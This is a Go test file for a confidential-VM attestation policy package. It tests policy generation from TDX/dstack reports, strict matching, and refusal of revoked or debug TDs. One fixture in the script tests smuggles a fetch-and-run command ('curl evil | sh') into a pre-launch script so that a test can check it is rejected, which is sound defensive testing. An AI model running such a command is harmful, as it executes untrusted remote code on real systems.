package policy

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cvmgate/cvmgate/verify"
	"github.com/cvmgate/cvmgate/verify/compose"
	"github.com/cvmgate/cvmgate/verify/eventlog"
)

// reportVariants are reports FromReport must describe exactly.
var reportVariants = []struct {
	name   string
	report func(*verify.Report)
}{
	{"full", nil},
	{"out of date", func(r *verify.Report) { r.TCBStatus = verify.StatusOutOfDate }},
	{"unknown status", func(r *verify.Report) { r.TCBStatus = verify.StatusUnknown }},
	{"ratls", func(r *verify.Report) { r.Dstack.Binding = verify.BindingRATLS }},
	{"unbound", func(r *verify.Report) { r.Dstack.Binding = verify.BindingNone }},
	{"no os image", func(r *verify.Report) { r.Dstack.Identity.OSImageHash = nil }},
	{"no key provider", func(r *verify.Report) { r.Dstack.Identity.KeyProvider = nil }},
	{"upper-case key provider id", func(r *verify.Report) { r.Dstack.Identity.KeyProvider.ID = "ABCDEF" }},
	{"no compose", func(r *verify.Report) { r.Dstack.Compose = nil }},
	{"unpinned image", func(r *verify.Report) { r.Dstack.Compose.Services[0].Pinned = false }},
	{"scripts", func(r *verify.Report) {
		r.Dstack.Compose = mustParseCompose(withPinned(`,"init_script":["a","b","a"],"pre_launch_script":"docker login"`))
	}},
	{"scripts and an include", func(r *verify.Report) {
		r.Dstack.Compose = mustParseCompose(`{"runner":"docker-compose","pre_launch_script":"x","docker_compose_file":"include: [a]\n"}`)
	}},
	{"no app id", func(r *verify.Report) { r.Dstack.Identity.AppID = nil }},
	{"no app identity", func(r *verify.Report) { r.Dstack.Identity = eventlog.Identity{} }},
	{"key provider none", func(r *verify.Report) { r.Dstack.Identity.KeyProvider = &eventlog.KeyProvider{Name: "none", ID: ""} }},
	{"SEPT_VE_DISABLE clear", func(r *verify.Report) { r.Body.TDAttributes = [8]byte{} }},
	{"service TD", func(r *verify.Report) { r.Body.MRServiceTD[0] = 0xaa }},
	{"platform out of date", func(r *verify.Report) {
		r.TCBStatus, r.PlatformTCBStatus, r.PlatformOutOfDateSince = verify.StatusOutOfDate, verify.StatusOutOfDate, verifiedAt
	}},
}

func TestFromReportRoundTrip(t *testing.T) {
	for _, tt := range reportVariants {
		t.Run(tt.name, func(t *testing.T) {
			r := testReport()
			if tt.report != nil {
				tt.report(r)
			}
			p, err := FromReport(r)
			require.NoError(t, err)
			require.NoError(t, p.Check(r))

			data, err := p.Marshal()
			require.NoError(t, err)
			assert.True(t, strings.HasPrefix(string(data), "# cvmgate policy"), "header comment")
			parsed, err := Parse(data, t.TempDir())
			require.NoError(t, err, string(data))
			assert.Equal(t, p, parsed)
			assert.NoError(t, parsed.Check(r))

			again, err := parsed.Marshal()
			require.NoError(t, err)
			assert.Equal(t, string(data), string(again), "marshaling is stable")

			js, err := json.Marshal(p)
			require.NoError(t, err)
			fromJSON, err := Parse(js, "")
			require.NoError(t, err, string(js))
			assert.Equal(t, p, fromJSON)
		})
	}
}

func TestFromReportFields(t *testing.T) {
	p, err := FromReport(testReport())
	require.NoError(t, err)
	assert.Equal(t, List[verify.TCBStatus]{verify.StatusUpToDate}, p.TCB.Accept)
	assert.Equal(t, Duration(0), p.TCB.OutOfDateGrace)
	assert.False(t, p.TCB.AllowDebug)
	assert.Equal(t, TD{
		Attributes:    List[Hex]{Hex(tdAttributes[:])},
		XFAM:          List[Hex]{Hex(tdXFAM[:])},
		MROwner:       List[Hex]{fill(0x77, 48)},
		MROwnerConfig: List[Hex]{fill(0x78, 48)},
	}, p.TD, "mrservicetd is left to the default rule (zero) when zero")
	assert.Equal(t, List[Platform]{{MRTD: fill(0x11, 48), RTMR0: fill(0x20, 48), RTMR1: fill(0x21, 48), RTMR2: fill(0x22, 48)}}, p.Platform)
	assert.Equal(t, List[Hex]{fill(0x33, 32)}, p.OSImageHashes)
	assert.Equal(t, List[Hex]{composeHash()}, p.App.ComposeHashes)
	assert.Nil(t, p.App.ComposeFiles)
	assert.Equal(t, List[Hex]{fill(0x44, 20)}, p.App.AppIDs)
	assert.Equal(t, List[KeyProvider]{{Name: "kms", ID: fill(0x55, 5)}}, p.App.KeyProviders)
	assert.True(t, p.App.RequirePinnedImages)
	assert.False(t, p.App.Any)
	assert.Equal(t, verify.BindingSPKI, p.Channel.Binding)
	assert.Equal(t, DefaultMaxAge, p.Attestation.MaxAge)

	r := testReport()
	r.Dstack.Identity.AppID, r.Dstack.Identity.ComposeHash = nil, nil
	p, err = FromReport(r)
	require.NoError(t, err)
	assert.True(t, p.App.Any, "a CVM with no app identity can only be described by any: true")

	// The policy owns its bytes: changing the report later changes nothing.
	r = testReport()
	p, err = FromReport(r)
	require.NoError(t, err)
	r.Body.MRTD[0] = 0
	r.Dstack.Identity.AppID[0] = 0
	assert.Equal(t, Hex(fill(0x11, 48)), p.Platform[0].MRTD)
	assert.Equal(t, Hex(fill(0x44, 20)), p.App.AppIDs[0])
}

// TestFromReportScripts: the policy made from a CVM that carries scripts
// lists each once, so that require_pinned_images holds, and lists none when
// something else keeps the images from being shown pinned.
func TestFromReportScripts(t *testing.T) {
	r := testReport()
	r.Dstack.Compose = mustParseCompose(withPinned(`,"init_script":["a","b","a"],"pre_launch_script":"docker login"`))
	p, err := FromReport(r)
	require.NoError(t, err)
	assert.True(t, p.App.RequirePinnedImages)
	assert.Equal(t, []AllowedScript{allowed(compose.ScriptInit, "a"), allowed(compose.ScriptInit, "b"), allowed(compose.ScriptPreLaunch, "docker login")}, p.App.AllowedScripts)
	data, err := p.Marshal()
	require.NoError(t, err)
	assert.Contains(t, string(data), "  allowed_scripts:\n    - kind: init_script\n      sha256: \""+sha256Hex("a")+"\"\n")
	assert.Contains(t, string(data), "# app.allowed_scripts is the exception")

	r.Dstack.Compose.AllowedEnvs = []string{"BASH_ENV"}
	p, err = FromReport(r)
	require.NoError(t, err)
	assert.False(t, p.App.RequirePinnedImages)
	assert.Nil(t, p.App.AllowedScripts)

	// Another text of a listed script is refused.
	r = testReport()
	r.Dstack.Compose = mustParseCompose(withPinned(`,"pre_launch_script":"docker login"`))
	p, err = FromReport(r)
	require.NoError(t, err)
	r.Dstack.Compose = mustParseCompose(withPinned(`,"pre_launch_script":"docker login; curl evil | sh"`))
	requireViolations(t, p.Check(r), "app.require_pinned_images")
}

// TestFromReportIsStrict: the generated policy refuses a CVM that differs
// from the one it was made from in any measured value.
func TestFromReportIsStrict(t *testing.T) {
	p, err := FromReport(testReport())
	require.NoError(t, err)
	changes := []struct {
		name   string
		change func(*verify.Report)
		rules  []string
	}{
		{"status", func(r *verify.Report) { r.TCBStatus = verify.StatusSWHardeningNeeded }, []string{"tcb.accept"}},
		{"debug", setDebug, []string{"tcb.allow_debug", "td.attributes"}},
		{"td attributes", func(r *verify.Report) { r.Body.TDAttributes[7] |= 0x80 }, []string{"td.attributes"}}, // PERFMON
		{"xfam", func(r *verify.Report) { r.Body.XFAM[3] |= 0x01 }, []string{"td.xfam"}},
		{"mrowner", func(r *verify.Report) { r.Body.MROwner[5]++ }, []string{"td.mrowner"}},
		{"mrownerconfig", func(r *verify.Report) { r.Body.MROwnerConfig[5]++ }, []string{"td.mrownerconfig"}},
		{"mrservicetd", func(r *verify.Report) { r.Body.MRServiceTD[5]++ }, []string{"td.mrservicetd"}},
		{"mrtd", func(r *verify.Report) { r.Body.MRTD[5]++ }, []string{"platform"}},
		{"rtmr0", func(r *verify.Report) { r.Body.RTMR[0][5]++ }, []string{"platform"}},
		{"rtmr1", func(r *verify.Report) { r.Body.RTMR[1][5]++ }, []string{"platform"}},
		{"rtmr2", func(r *verify.Report) { r.Body.RTMR[2][5]++ }, []string{"platform"}},
		{"os image", func(r *verify.Report) { r.Dstack.Identity.OSImageHash[5]++ }, []string{"os_image_hashes"}},
		{"compose", func(r *verify.Report) { r.Dstack.Identity.ComposeHash[5]++ }, []string{"app.compose_hashes"}},
		{"app id", func(r *verify.Report) { r.Dstack.Identity.AppID[5]++ }, []string{"app.app_ids"}},
		{"kms", func(r *verify.Report) { r.Dstack.Identity.KeyProvider.ID = "5555555554" }, []string{"app.key_providers"}},
		{"unpinned", func(r *verify.Report) { r.Dstack.Compose.Services[0].Pinned = false }, []string{"app.require_pinned_images"}},
		{"binding", func(r *verify.Report) { r.Dstack.Binding = verify.BindingNone }, []string{"channel.binding"}},
	}
	for _, tt := range changes {
		t.Run(tt.name, func(t *testing.T) {
			r := testReport()
			tt.change(r)
			requireViolations(t, p.Check(r), tt.rules...)
		})
	}
}

func TestFromReportIncomplete(t *testing.T) {
	tests := []struct {
		name   string
		report func(*verify.Report) *verify.Report
		want   string
	}{
		{"nil", func(*verify.Report) *verify.Report { return nil }, "expected a report"},
		{"no quote", func(r *verify.Report) *verify.Report { r.QuoteVersion = 0; return r }, "expected a quote"},
		{"no dstack", func(r *verify.Report) *verify.Report { r.Dstack = nil; return r }, "expected dstack evidence"},
		{"RTMR3 not replayed", func(r *verify.Report) *verify.Report { r.Dstack.RTMRReplayed[3] = false; return r }, "expected an event log replayed to RTMR3"},
		{"no binding", func(r *verify.Report) *verify.Report { r.Dstack.Binding = ""; return r }, "expected a checked channel binding"},
		{"key provider id not hex", func(r *verify.Report) *verify.Report { r.Dstack.Identity.KeyProvider.ID = "kms-1"; return r }, `found "kms-1"`},
		{"empty key provider id", func(r *verify.Report) *verify.Report { r.Dstack.Identity.KeyProvider.ID = ""; return r }, "app.key_providers[0].id"},
		{"none key provider with an id", func(r *verify.Report) *verify.Report {
			r.Dstack.Identity.KeyProvider = &eventlog.KeyProvider{Name: "none", ID: "00"}
			return r
		}, "app.key_providers[0].id"},
		{"short app id", func(r *verify.Report) *verify.Report { r.Dstack.Identity.AppID = fill(1, 4); return r }, "app.app_ids[0]"},
		{"invalid status", func(r *verify.Report) *verify.Report { r.TCBStatus = ""; return r }, "tcb.accept[0]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := FromReport(tt.report(testReport()))
			require.ErrorIs(t, err, ErrIncompleteReport)
			assert.Nil(t, p)
			assert.Contains(t, err.Error(), tt.want)
		})
	}
}

// TestFromReportRefuses: FromReport writes no policy that accepts a
// revoked TCB or a TD under debug, whatever part is revoked and whichever
// TD-under-debug bit is set.
func TestFromReportRefuses(t *testing.T) {
	tests := []struct {
		name   string
		report func(*verify.Report)
		want   string
	}{
		{"revoked", func(r *verify.Report) { r.TCBStatus, r.PlatformTCBStatus = verify.StatusRevoked, verify.StatusRevoked }, "found TCB status Revoked"},
		{"platform revoked", func(r *verify.Report) { r.PlatformTCBStatus = verify.StatusRevoked }, "found platform status Revoked"},
		{"module revoked", func(r *verify.Report) { r.TCBStatus, r.TDXModuleTCBStatus = verify.StatusRevoked, verify.StatusRevoked }, "Revoked"},
		{"QE revoked", func(r *verify.Report) { r.TCBStatus, r.QETCBStatus = verify.StatusRevoked, verify.StatusRevoked }, "Revoked"},
		{"debug", setDebug, "found TDATTRIBUTES 0100001000000000"},
		{"debug in the report only", func(r *verify.Report) { r.Debug = true }, "expected a TD not under debug"},
		{"TD-under-debug bit 3", func(r *verify.Report) { r.Body.TDAttributes[0] = 0x08 }, "found TDATTRIBUTES 0800001000000000"},
		{"TD-under-debug bit 7", func(r *verify.Report) { r.Body.TDAttributes[0] = 0x80 }, "TDATTRIBUTES 8000001000000000"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := testReport()
			tt.report(r)
			p, err := FromReport(r)
			require.ErrorIs(t, err, ErrRefusedReport)
			assert.NotErrorIs(t, err, ErrIncompleteReport)
			assert.Nil(t, p)
			assert.Contains(t, err.Error(), tt.want)
		})
	}
}

// TestFromReportKeyProviderNone: dstack's key provider of a CVM without one
// is written and accepted, and no other provider stands in for it.
func TestFromReportKeyProviderNone(t *testing.T) {
	r := testReport()
	r.Dstack.Identity.KeyProvider = &eventlog.KeyProvider{Name: "none", ID: ""}
	p, err := FromReport(r)
	require.NoError(t, err)
	assert.Equal(t, List[KeyProvider]{{Name: "none", ID: Hex{}}}, p.App.KeyProviders)
	data, err := p.Marshal()
	require.NoError(t, err)
	assert.Contains(t, string(data), "- name: none\n      id: \"\"\n")
	require.NoError(t, p.Check(r))

	r.Dstack.Identity.KeyProvider = &eventlog.KeyProvider{Name: "kms", ID: ""}
	requireViolations(t, p.Check(r), "app.key_providers")
	r.Dstack.Identity.KeyProvider = &eventlog.KeyProvider{Name: "none", ID: "00"}
	requireViolations(t, p.Check(r), "app.key_providers")
}

// TestMarshalKeepsAbsentAndEmptyApart: marshaling must never turn "accepts
// nothing" into "not checked", or the reverse.
func TestMarshalKeepsAbsentAndEmptyApart(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "c.json", composeJSON)
	doc := "version: 1\ntcb: {accept: [], out_of_date_grace: 36h}\nplatform: []\nos_image_hashes: []\napp: {compose_hashes: [], compose_files: [c.json], key_providers: []}\n"
	p, err := Parse([]byte(doc), dir)
	require.NoError(t, err)
	data, err := p.Marshal()
	require.NoError(t, err)
	for _, want := range []string{"accept: []", "platform: []", "os_image_hashes: []", "compose_hashes: []", "key_providers: []", "- c.json", "out_of_date_grace: 36h"} {
		assert.Contains(t, string(data), want)
	}
	assert.NotContains(t, string(data), "app_ids", "an absent list stays absent")

	back, err := Parse(data, dir)
	require.NoError(t, err)
	assert.Equal(t, p, back)

	js, err := json.Marshal(p)
	require.NoError(t, err)
	assert.Contains(t, string(js), `"platform":[]`)
	assert.NotContains(t, string(js), "app_ids")
	fromJSON, err := Parse(js, dir)
	require.NoError(t, err)
	assert.Equal(t, p, fromJSON)
}
